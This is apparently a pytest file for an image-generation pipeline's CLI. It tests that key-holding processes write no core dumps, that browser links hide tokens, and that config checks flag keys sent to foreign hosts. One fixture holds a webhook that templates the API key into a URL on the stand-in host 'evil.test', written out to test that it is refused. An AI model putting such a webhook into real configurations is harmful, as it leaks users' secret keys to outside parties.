"""The key and the link that may spend: not in core files, and not in the arguments of a browser."""

import json
import os
import re
import stat
import subprocess
import sys
import webbrowser

import pytest

from pipeline.cli.commands import review
from pipeline.cli.main import main

URL = "http://127.0.0.1:4711/?t=s3cret&x=<1>"

ASK = """
import ctypes, json, os, resource, runpy, sys
told = {}
def main(words):
    told.update(core=resource.getrlimit(resource.RLIMIT_CORE)[0],
                dumpable=ctypes.CDLL(None).prctl(3, 0, 0, 0, 0))
    return 0
import pipeline.cli.main
pipeline.cli.main.main = main
try:
    runpy.run_module("pipeline", run_name="__main__")
except SystemExit:
    print(json.dumps(told))
"""


def asked(**environment):
    """What a process that runs a command is allowed: the size of a core file, and to be dumped."""
    raised = (
        "import resource as r\nr.setrlimit(r.RLIMIT_CORE, r.getrlimit(r.RLIMIT_CORE)[1:] * 2)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", raised + ASK],
        env={**os.environ, **environment},
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(done.stdout)


@pytest.mark.parametrize("name", ["GPTIMAGE_API_KEY", "PIPELINE_SERVE_KEY", "PIPELINE_LEDGER"])
def test_a_process_that_has_a_key_writes_no_core_file(name):
    """A crash left the key on the disk."""
    told = asked(**{name: "sk-live-0123456789"})
    assert told == {"core": 0, "dumpable": 0 if sys.platform == "linux" else told["dumpable"]}


def test_a_process_without_a_key_is_left_alone(monkeypatch):
    monkeypatch.delenv("GPTIMAGE_API_KEY", raising=False)
    if sys.platform == "linux":
        assert asked()["dumpable"] == 1


def test_a_browser_is_told_a_file_and_not_the_link(tmp_path, monkeypatch):
    """Every user of the machine could read the token of a page that may spend, with `ps`."""
    seen = []

    def opened(argument):
        [page] = tmp_path.iterdir()
        seen.append((argument, page.read_text(), stat.S_IMODE(page.stat().st_mode)))

    monkeypatch.setattr(webbrowser, "open", opened)
    monkeypatch.setattr(review, "SECONDS_TO_OPEN", 0)
    os.umask(old := os.umask(0))
    try:
        review._open_browser(URL, tmp_path / "open-review-1.html")
    finally:
        os.umask(old)
    [(argument, page, mode)] = seen
    assert argument == (tmp_path / "open-review-1.html").as_uri()
    assert "s3cret" not in argument
    assert mode == 0o600
    assert 'content="0; url=http://127.0.0.1:4711/?t=s3cret&amp;x=&lt;1&gt;"' in page
    assert not [*tmp_path.iterdir()]


def test_a_page_that_cannot_be_written_opens_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(webbrowser, "open", lambda _: pytest.fail("the link was opened"))
    (tmp_path / "there").write_text("mine")
    review._open_browser(URL, tmp_path / "there")
    review._open_browser(URL, tmp_path / "no" / "folder.html")
    assert (tmp_path / "there").read_text() == "mine"


FILE = """\
campaign: soda
provider: gptimage
matrix: {product: [{id: citrus, name: Citrus}], size: ['1:1']}
prompt: A photorealistic product photo of {{ product.name }} on a wet table, soft light.
"""


@pytest.fixture
def checked(tmp_path, monkeypatch, capsys):
    for name in ("GPTIMAGE_BASE_URL", "GPTIMAGE_KEY_HOSTS", "PIPELINE_FILE_VARIABLES"):
        monkeypatch.delenv(name, raising=False)

    def check(part, *flags, **environment):
        for name, value in environment.items():
            monkeypatch.setenv(name, value)
        place = tmp_path / "soda.yaml"
        place.write_text(FILE + part)
        code = main(["check", str(place), "--json", *flags])
        found = json.loads(capsys.readouterr().out)
        return code, [one["code"] for one in found if re.search("key|secret", one["code"])]

    return check


ELSEWHERE = "providers: {gptimage: {base_url: 'http://images.example'}}\n"


def test_check_warns_of_a_base_url_that_would_not_get_the_key(checked):
    """`check --strict` said nothing of a file that sent the key to its own host."""
    assert checked(ELSEWHERE) == (0, ["key-host"])
    assert checked(ELSEWHERE, "--strict") == (2, ["key-host"])
    assert checked(ELSEWHERE, "--provider", "embedded") == (0, [])


@pytest.mark.parametrize(
    "environment",
    [
        {"GPTIMAGE_KEY_HOSTS": "http://images.example"},
        {"GPTIMAGE_BASE_URL": "http://images.example"},
        {"GPTIMAGE_BASE_URL": "https://other.example"},
    ],
)
def test_check_is_content_where_the_owner_has_spoken(checked, environment):
    assert checked(ELSEWHERE, "--strict", **environment)[1] == []


def test_check_refuses_a_webhook_with_the_key(checked):
    hook = 'notify: [{when: [always], webhook: "http://evil.test/{{ env.GPTIMAGE_API_KEY }}"}]\n'
    assert checked(hook) == (2, ["secret-variable"])
